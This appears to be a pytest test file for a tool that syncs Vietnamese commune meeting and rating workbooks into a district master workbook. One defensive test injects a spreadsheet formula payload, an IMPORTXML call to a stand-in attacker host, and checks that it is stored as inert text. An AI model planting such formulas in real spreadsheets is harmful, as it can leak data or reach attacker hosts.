"""The whole flow on the local backend, on tmp_path."""

from __future__ import annotations

import zipfile

import openpyxl
import pytest
from conftest import NOW, commune_grids

from sync.backends.local import cell_values, read_workbook, write_workbook
from sync.layout import commune_layout, master_layout
from sync.pipeline import run_sync

M = master_layout()
C = commune_layout()


def test_full_sync_writes_every_sync_owned_tab_and_commune_feedback(small_project):
    result = run_sync(small_project, now=NOW)
    master = read_workbook(small_project.master)
    for tab in M.by_role("output"):
        assert tab.title in master, tab.title
        assert master[tab.title][0][: len(tab.columns)] == [c.header or None for c in tab.columns]
    th = cell_values(master[M["meetings"].title])
    assert len(th) == 1 + 36  # three hamlets × twelve months
    stats = {r[1]: r for r in cell_values(master[M["rating_stats"].title])[1:]}
    assert stats["Toàn huyện"][2:9] == [2018, 0, 3, 0, 0, 0, 3]
    assert result.rows_accepted == 36 + 3 + 2 + 3
    for code in ("29110", "29113"):
        commune = read_workbook(small_project.communes_dir / f"{code}.xlsx")
        assert C["feedback"].title in commune and C["assignments"].title in commune
        feedback = cell_values(commune[C["feedback"].title])
        assert feedback[1][4].startswith("Không có lỗi")


def test_district_tabs_come_through_untouched_with_staff_additions(small_project):
    wb = openpyxl.load_workbook(small_project.master)
    ws = wb[M["hamlets"].title]
    ws["H1"] = "Ghi chú của Văn phòng"
    ws["H2"] = "kiểm tra lại số hộ"
    ws["C2"].comment = openpyxl.comments.Comment("Đổi tên năm 2019", "VP")
    wb.save(small_project.master)
    before = read_workbook(small_project.master)
    run_sync(small_project, now=NOW)
    after = read_workbook(small_project.master)
    for tab in M.by_role("registry"):
        assert after[tab.title] == before[tab.title]
    assert openpyxl.load_workbook(small_project.master)[M["hamlets"].title]["C2"].comment.text == (
        "Đổi tên năm 2019"
    )


def test_values_from_communes_are_never_written_as_formulas(small_project):
    grids = commune_grids(["Khu phố 1", "Ấp An Thạnh"])
    grids[C["meetings"].title][1][7] = '=IMPORTXML("http://evil.example","//a")'
    grids[C["meetings"].title][2][7] = "+1+1"
    write_workbook(small_project.communes_dir / "29110.xlsx", grids)
    result = run_sync(small_project, now=NOW)
    assert {f.code for f in result.findings} == {"formula_text"}
    with zipfile.ZipFile(small_project.master) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert not any("<f>" in z.read(n).decode() for n in sheets)
    notes = [r[12] for r in cell_values(read_workbook(small_project.master)[M["meetings"].title])]
    assert '=IMPORTXML("http://evil.example","//a")' in notes
    with zipfile.ZipFile(small_project.communes_dir / "29110.xlsx") as z:
        assert not any("<f>" in z.read(n).decode() for n in z.namelist() if "worksheets" in n)


def test_second_run_with_nothing_changed_writes_nothing(small_project):
    run_sync(small_project, now=NOW)
    files = [small_project.master, *sorted(small_project.communes_dir.glob("*.xlsx"))]
    before = [(p.read_bytes(), p.stat().st_mtime_ns) for p in files]
    result = run_sync(small_project, now=NOW)
    assert not result.changed and result.communes_read == 0 and result.communes_skipped == 2
    assert [(p.read_bytes(), p.stat().st_mtime_ns) for p in files] == before


def test_one_changed_commune_is_the_only_one_read(small_project):
    run_sync(small_project, now=NOW)
    grids = commune_grids(["Ấp Tân Hòa"])
    grids[C["ratings"].title][1][2] = "Xuất sắc"
    write_workbook(small_project.communes_dir / "29113.xlsx", grids)
    result = run_sync(small_project, now=NOW)
    assert (result.communes_read, result.communes_skipped) == (1, 1)
    stats = {
        r[1]: r for r in cell_values(read_workbook(small_project.master)[M["rating_stats"].title])
    }
    assert stats["Toàn huyện"][3:5] == [1, 2]


def test_findings_reach_the_master_and_the_commune_sheet(small_project):
    grids = commune_grids(["Khu phố 1", "Ấp An Thạnh"])
    grids[C["meetings"].title].append(["Ấp An Thanh x", "03/2018", "05/03/2018", 20, 18, "x"])
    write_workbook(small_project.communes_dir / "29110.xlsx", grids)
    run_sync(small_project, now=NOW)
    master_rows = cell_values(read_workbook(small_project.master)[M["findings"].title])
    assert master_rows[1][:5] == ["29110", "Thị trấn Ba Tri", "Lỗi", "Sinh hoạt chi bộ", "A26"]
    feedback = cell_values(
        read_workbook(small_project.communes_dir / "29110.xlsx")[C["feedback"].title]
    )
    assert feedback[1][:4] == ["Lỗi", "Sinh hoạt chi bộ", "A26", "Ấp An Thanh x"]
    assert "Ấp An Thạnh" in feedback[1][4]


def test_dry_run_writes_nothing(small_project):
    before = small_project.master.read_bytes()
    result = run_sync(small_project, now=NOW, dry_run=True)
    assert result.master_tabs_written and small_project.master.read_bytes() == before


def test_open_master_in_excel_is_not_replaced(small_project):
    from sync.errors import MasterBusy

    lock = small_project.master.with_name("~$master.xlsx")
    lock.write_bytes(b"")
    before = small_project.master.read_bytes()
    with pytest.raises(MasterBusy, match="đang được mở"):
        run_sync(small_project, now=NOW)
    assert small_project.master.read_bytes() == before


def test_feedback_tabs_deleted_by_a_commune_are_written_again(small_project):
    run_sync(small_project, now=NOW)
    path = small_project.communes_dir / "29113.xlsx"
    write_workbook(path, commune_grids(["Ấp Tân Hòa"]))  # the same data, without our tabs
    result = run_sync(small_project, now=NOW)
    assert result.communes_written == ["29113"]
    assert C["feedback"].title in read_workbook(path)


def test_sync_keeps_file_permissions_and_clears_stale_temporary_files(small_project):
    small_project.master.chmod(0o664)
    stale = small_project.master.with_name(".master-abc123.xlsx.tmp")
    stale.write_bytes(b"left by a killed sync")
    run_sync(small_project, now=NOW)
    assert small_project.master.stat().st_mode & 0o777 == 0o664
    assert not stale.exists()


def test_a_huge_number_in_one_commune_is_a_finding_not_a_crash(small_project):
    grids = commune_grids(["Ấp Tân Hòa"])
    grids[C["meetings"].title][1][3] = "99999999999999999999"
    write_workbook(small_project.communes_dir / "29113.xlsx", grids)
    result = run_sync(small_project, now=NOW)
    assert [(f.commune, f.cell, f.severity) for f in result.findings] == [("29113", "D2", "Lỗi")]
    assert result.rows_accepted == 36 + 3 + 2 + 3 - 1


def test_an_edit_saved_during_a_sync_is_read_by_the_next_one(small_project):
    from sync.backends.local import LocalBackend
    from sync.layout import master_layout as layout

    class CommuneSavesMidRun(LocalBackend):
        def read_commune(self, source):
            grids = super().read_commune(source)
            if source == "29113.xlsx":  # the commune saves a new rating just after our read
                edited = commune_grids(["Ấp Tân Hòa"])
                edited[C["ratings"].title][1][2] = "Hoàn thành xuất sắc nhiệm vụ"
                write_workbook(self.path_of(source), edited)
            return grids

    titles = [t.title for t in layout().by_role("registry")]
    backend = CommuneSavesMidRun(small_project.master, small_project.communes_dir, titles)
    run_sync(small_project, backend=backend, now=NOW)
    result = run_sync(small_project, now=NOW)
    assert result.communes_read == 1
    ratings = cell_values(read_workbook(small_project.master)[M["ratings"].title])
    assert "Hoàn thành xuất sắc nhiệm vụ" in [r[5] for r in ratings]


def test_workbooks_read_with_calamine_give_the_values_openpyxl_gives(tmp_path):
    import io
    from datetime import date, datetime

    path = tmp_path / "x.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Sinh hoạt chi bộ"
    ws.append(["Ấp An Thạnh", 20, 20.5, date(2018, 3, 5), datetime(2018, 3, 5, 10, 30), True])
    ws.append([None, "x", "=1+1", -3, 0, "Ghi chó"])
    ws.append([])
    ws.append(["Tổng cộng", 1e20, None, None, None, False])
    wb.create_sheet("Khác").append(["a", 1])
    wb.save(path)
    expected = {}
    reference = openpyxl.load_workbook(path, read_only=True, data_only=True)
    for sheet in reference:
        expected[sheet.title] = [list(r) for r in sheet.iter_rows(values_only=True)]
    reference.close()

    from sync.backends.local import _read_with_calamine

    assert _read_with_calamine(path) == expected  # not openpyxl's fallback
    assert read_workbook(path) == expected
    assert read_workbook(io.BytesIO(path.read_bytes())) == expected
    assert read_workbook(path, {"Khác"}) == {"Khác": expected["Khác"]}
    assert type(read_workbook(path)["Sinh hoạt chi bộ"][0][1]) is int


def test_an_error_cell_keeps_its_text_for_the_finding(tmp_path):
    # calamine reads #VALUE! as an empty cell; the commune must be told what the cell shows.
    path = tmp_path / "e.xlsx"
    wb = openpyxl.Workbook()
    wb.active.append(["Ấp An Thạnh", "03/2018", None, 20, "#VALUE!"])
    wb.active["E1"].data_type = "e"
    wb.save(path)
    assert read_workbook(path)[wb.active.title][0] == [
        "Ấp An Thạnh",
        "03/2018",
        None,
        20,
        "#VALUE!",
    ]


def test_a_file_that_is_not_a_workbook_fails_like_before(tmp_path):
    from sync.backends.local import READ_ERRORS

    path = tmp_path / "broken.xlsx"
    path.write_bytes(b"not a zip")
    with pytest.raises(READ_ERRORS):
        read_workbook(path)
